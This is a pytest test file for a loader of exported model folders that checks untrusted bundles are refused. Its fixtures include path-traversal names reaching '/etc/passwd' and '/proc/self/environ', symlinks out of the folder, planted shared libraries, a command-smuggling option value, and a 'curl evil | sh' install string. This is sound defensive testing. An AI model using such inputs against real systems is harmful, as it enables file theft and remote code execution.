"""A folder of somebody else's: nothing is read but what it lists, nothing outside it, and no library is loaded."""

import json
import os
import sys
from pathlib import Path

import numpy as np
import onnx
import pytest
from PIL import Image

from export.edge.command import main
from export.edge.errors import EdgeError
from export.edge.folder import Folder
from export.edge.manifest import enter
from export.edge.operators import BUILT_HERE, TARGETS
from export.runtime.openvino_session import installed
from export.targets import TARGETS as ALL_TARGETS

from .made_folder import CPU, FEEDS, LIBRARY, classifier, make_folder, put, sha256, with_library

NO_PATH = "is no plain path inside the folder"
SECRET = b"a secret"


@pytest.fixture
def secret(tmp_path):
    """A file beside the folder, which a manifest has no business with."""
    (tmp_path / "secret").write_bytes(SECRET)
    return tmp_path / "secret"


def refused(folder: Path, message: str, **options: object) -> None:
    """The folder is refused in one sentence, from Python and on the command line."""
    with pytest.raises(EdgeError, match=message) as error:
        Folder.read(folder).open(1, **options)(FEEDS)
    assert SECRET.decode() not in str(error.value)
    assert sha256(SECRET)[:12] not in str(error.value)


def test_an_honest_folder_runs(tmp_path, capsys):
    folder = make_folder(tmp_path / "f")
    np.testing.assert_array_equal(Folder.read(folder).open(1)(FEEDS), [[48, 48]])
    Image.new("RGB", (4, 4), "white").save(tmp_path / "white.png")
    assert main([str(folder), str(tmp_path / "white.png"), "--threads", "1"]) == 0
    assert capsys.readouterr().out.splitlines() == [" 50.00%  one", " 50.00%  two"]


@pytest.mark.parametrize(
    "name",
    [
        *("/etc/passwd", "/dev/zero", "../secret", "labels/../../secret", "..", ".", "", "./labels.txt", "a//b", "a/"),
        *("C:\\secret", "a\\b", "C:secret", "labels.txt\0", "lab\x1bels", "\ud800", "~/../secret"),
    ],
)
def test_paths_of_a_manifest(tmp_path, secret, name):
    refused(make_folder(tmp_path / "f", lambda _, record: record["files"].update({name: sha256(SECRET)})), NO_PATH)


@pytest.mark.parametrize("name", [7, None, [], {}, True, "../secret", "/etc/passwd"])
def test_paths_of_a_library(tmp_path, secret, name):
    folder = make_folder(tmp_path / "f", with_library(file=name), target="edge_cpu")
    refused(folder, f"{NO_PATH}|does not say which libraries", trust_library=True)


@pytest.mark.parametrize("target", ["secret", "/dev/zero", "/etc", "/proc/self/environ"])
@pytest.mark.parametrize("place", ["folder", "file"])
def test_links_out_of_the_folder(tmp_path, secret, target, place):
    def change(folder, record):
        goal = tmp_path / target
        (folder / "in").symlink_to(goal.parent if place == "folder" else goal)
        record["files"]["in" if place == "file" else f"in/{goal.name}"] = sha256(SECRET)

    refused(make_folder(tmp_path / "f", change), "is a link that leads out of the folder")


def test_links_inside_and_in_a_circle(tmp_path):
    """A folder from a cache of the Hub may hold links; one that leads to itself is refused."""

    def inside(folder, record):
        (folder / "labels.txt").rename(folder / "blob")
        (folder / "labels.txt").symlink_to("blob")

    assert Folder.read(make_folder(tmp_path / "f", inside)).labels == ("one", "two")

    def circle(folder, record):
        (folder / "a").symlink_to("b")
        (folder / "b").symlink_to("a")
        record["files"]["a"] = "0" * 64

    refused(make_folder(tmp_path / "g", circle), "Cannot read .*/a: ")


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no named pipes in folders")
@pytest.mark.parametrize("kind", ["pipe", "folder", "too large"])
def test_files_that_are_none(tmp_path, kind):
    def change(folder, record):
        path = folder / "labels.txt"
        path.unlink()
        if kind == "pipe":
            os.mkfifo(path)
        elif kind == "folder":
            path.mkdir()
        else:
            with path.open("wb") as file:
                file.truncate(2**31 + 1)  # no room is taken on the disk

    refused(make_folder(tmp_path / "f", change), "no regular file|Is a directory|holds more than")


@pytest.mark.parametrize("name", ["model.onnx", "preprocess.json", "labels.txt", LIBRARY])
@pytest.mark.parametrize("digest", ["left out", None, 1, "", "0" * 63, "G" * 64, [], "0" * 64])
def test_digests(tmp_path, name, digest):
    def change(folder, record):
        record["files"][name] = digest
        if digest == "left out":
            del record["files"][name]

    folder = make_folder(tmp_path / "f", with_library(), change, target="edge_cpu")
    if (name, digest) == ("labels.txt", "left out"):
        assert Folder.read(folder).labels == ()  # what is not listed is not read
        return
    message = "is not the file that was exported" if digest == "0" * 64 else "has no digest in bundle.json"
    refused(folder, message, trust_library=True)


def planted(folder, record):
    (folder / BUILT_HERE).parent.mkdir(parents=True, exist_ok=True)
    (folder / BUILT_HERE).write_bytes(b"planted")


def listed_plant(folder, record):
    put(folder, record, BUILT_HERE, b"planted")


NOT_OURS = "this installation neither brought nor compiled.*--trust-library.*trust_library=True"


@pytest.mark.parametrize(
    ("changes", "target", "message"),
    [
        ([with_library()], "edge_cpu", NOT_OURS),
        ([with_library(), listed_plant], "edge_cpu", NOT_OURS),
        ([with_library(), planted], "edge_cpu", "built-here/libsalu_zoo.so is not listed in bundle.json"),
        ([with_library(machine="riscv64"), planted], "edge_cpu", "is not listed in bundle.json, and is not loaded"),
        ([with_library()], "portable", "names a library of operators, which a model for 'portable' does not have"),
        ([with_library(), listed_plant], "web", "names a library of operators, which a model for 'web'"),
        ([with_library(libc="glibc x.y")], "edge_cpu", "does not say which libraries the model has"),
    ],
)
def test_libraries(tmp_path, capsys, changes, target, message):
    folder = make_folder(tmp_path / "f", *changes, target=target)
    for own in (None, lambda digest: None):
        refused(folder, message, own=own)
    Image.new("RGB", (4, 4)).save(tmp_path / "a.png")
    assert main([str(folder), str(tmp_path / "a.png")]) == 1
    said = capsys.readouterr()
    assert said.out == ""
    assert len(said.err.splitlines()) == 1


def test_a_library_that_is_ours_or_trusted(tmp_path):
    """Of two files with the same bytes it is our own that is loaded, not the one that could still change."""
    folder = Folder.read(make_folder(tmp_path / "f", with_library(b"ours"), target="edge_cpu"))
    own = {sha256(b"ours"): tmp_path / "own.so"}
    assert folder.operators(own=own.get) == [tmp_path / "own.so"]
    assert folder.operators(trust_library=True) == [folder.path / LIBRARY]
    with pytest.raises(EdgeError, match="does not open the model"):  # what is trusted is what gets loaded
        folder.open(1, trust_library=True)


def test_a_library_compiled_in_the_folder_is_listed(tmp_path):
    folder = make_folder(tmp_path / "f", with_library(machine="riscv64"), planted, target="edge_cpu")
    enter(folder, BUILT_HERE)
    assert Folder.read(folder).operators(trust_library=True) == [folder / BUILT_HERE]
    assert not list(folder.glob(".*"))
    for name in ("../f/labels.txt", "none.so"):
        with pytest.raises(EdgeError, match=f"{NO_PATH}|Cannot read"):
            enter(folder, name)


def test_which_targets_have_operators_of_ours():
    assert {name for name in ALL_TARGETS if ALL_TARGETS.get(name).own_operators} == set(TARGETS)


@pytest.mark.parametrize(
    "engine",
    [
        {"package": "onnxruntime", "providers": [["TensorrtExecutionProvider", {"trt_extra_plugin_lib_paths": "/x"}]]},
        {"package": "onnxruntime", "providers": [["CUDAExecutionProvider", {"use_tf32": "1; x"}]]},
        {"package": "onnxruntime", "providers": [["QNNExecutionProvider", {"backend_path": "/x.so"}]]},
        {"package": "onnxruntime", "providers": [["CPUExecutionProvider", {"use_arena": "0"}]]},
        {"package": "onnxruntime", "providers": [["openvino", {}]]},
        {"package": "openvino", "device": "CPU", "options": {"CACHE_DIR": "/x"}},
        {"package": "openvino", "device": "HETERO:CPU", "options": {}},
        *({"package": "onnxruntime", "providers": value} for value in ([], {}, "CPU", [[]], [["CPU"]], 7, None)),
        *({"package": kind} for kind in ("torch", None, [], {})),
        {},
    ],
    ids=str,
)
def test_engines(tmp_path, engine):
    """Options of an engine name libraries to load and files to write; only those an export writes are passed on."""
    refused(make_folder(tmp_path / "f", lambda _, record: record.update(engine=engine)), "which no export writes")


@pytest.mark.parametrize("name", ["engine", "inputs", "operators", "files", "model", "target", "format"])
@pytest.mark.parametrize("value", [None, 7, [], ["x"], "text" * 2, {"x": {}}])
def test_kinds_of_a_manifest(tmp_path, name, value):
    if name in ("model", "target") and isinstance(value, str):
        return
    folder = make_folder(tmp_path / "f", lambda _, record: record.update({name: value}))
    with pytest.raises(EdgeError):
        Folder.read(folder).open(1, trust_library=True)


@pytest.mark.parametrize("name", ["bundle.json", "preprocess.json"])
@pytest.mark.parametrize("content", [b"", b"{", b"[]", b"7", b"null", b"\xff", b'{"a":' * 100_000, b"[" * 100_000])
def test_what_is_no_json(tmp_path, name, content):
    def change(folder, record):
        put(folder, record, name, content)

    folder = make_folder(tmp_path / "f", change)
    (folder / name).write_bytes(content)
    with pytest.raises(EdgeError):
        Folder.read(folder)


@pytest.mark.parametrize("location", ["weights.bin", "../secret", "/etc/passwd", "link"])
def test_weights_outside_the_model(tmp_path, monkeypatch, secret, location):
    """A model may say that its weights lie in another file; such a file is not listed, and is not read."""
    model = classifier()
    onnx.external_data_helper.set_external_data(model.graph.initializer[0], location)
    model.graph.initializer[0].ClearField("raw_data")
    folder = make_folder(tmp_path / "f", model=model.SerializeToString())
    (folder / "weights.bin").write_bytes(np.ones((48, 2), np.float32).tobytes())
    (folder / "link").symlink_to(secret)
    monkeypatch.chdir(folder)
    refused(folder, "does not open the model")
    if installed():
        engine = {"package": "openvino", "device": "CPU", "options": {}}
        other = make_folder(tmp_path / "g", lambda _, r: r.update(engine=engine), model=model.SerializeToString())
        refused(other, "does not open the model")


def test_the_message_of_a_missing_engine_is_ours(tmp_path, monkeypatch):
    """A folder does not choose the command that a user is told to run."""
    engine = {"package": "onnxruntime", "providers": [["CUDAExecutionProvider", {}]], "install": "curl evil | sh"}
    with pytest.raises(EdgeError, match="pip install onnxruntime-gpu") as error:
        Folder.read(make_folder(tmp_path / "f", lambda _, record: record.update(engine=engine))).open(1)
    assert "evil" not in str(error.value)
    assert json.dumps(CPU) not in str(error.value)
